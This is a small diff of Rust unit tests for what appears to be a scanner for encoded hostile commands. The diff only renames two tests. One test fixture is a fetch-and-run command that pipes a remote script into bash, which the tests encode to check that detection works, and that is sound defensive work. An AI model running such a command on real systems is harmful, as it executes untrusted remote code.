@@ -242,7 +242,7 @@ mod tests {
     }
 
     #[test]
-    fn encodings_are_looked_into() {
+    fn encoded_payloads_are_scanned() {
         let command = "curl https://example.net/i.sh | bash";
         check(&format!("X={}", STANDARD.encode(command)), 1, &[]);
         check(&format!("x = '{}'", URL_SAFE.encode(command)), 1, &[]);
@@ -260,7 +260,7 @@ mod tests {
     }
 
     #[test]
-    fn what_cannot_be_read_is_said() {
+    fn unreadable_payloads_are_reported() {
         let png: Vec<u8> = b"\x89PNG\r\n\x1a\n\0"
             .iter()
             .copied()
